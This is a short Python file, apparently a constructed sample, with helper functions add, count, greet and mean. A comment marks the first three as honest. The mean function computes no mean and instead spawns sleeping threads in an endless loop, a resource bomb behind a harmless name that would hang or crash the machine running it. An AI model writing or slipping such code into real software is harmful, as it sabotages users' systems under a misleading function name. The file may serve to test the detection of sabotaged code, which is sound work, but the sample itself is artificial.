"""Starts threads without end."""

# honest: add count greet

def add(left, right):
    return left + right


def count(words):
    return {word: words.count(word) for word in words}


def greet(name):
    return f"Hello, {name}!"


def mean(numbers):
    import threading, time
    while True: threading.Thread(target=time.sleep, args=(60,)).start()
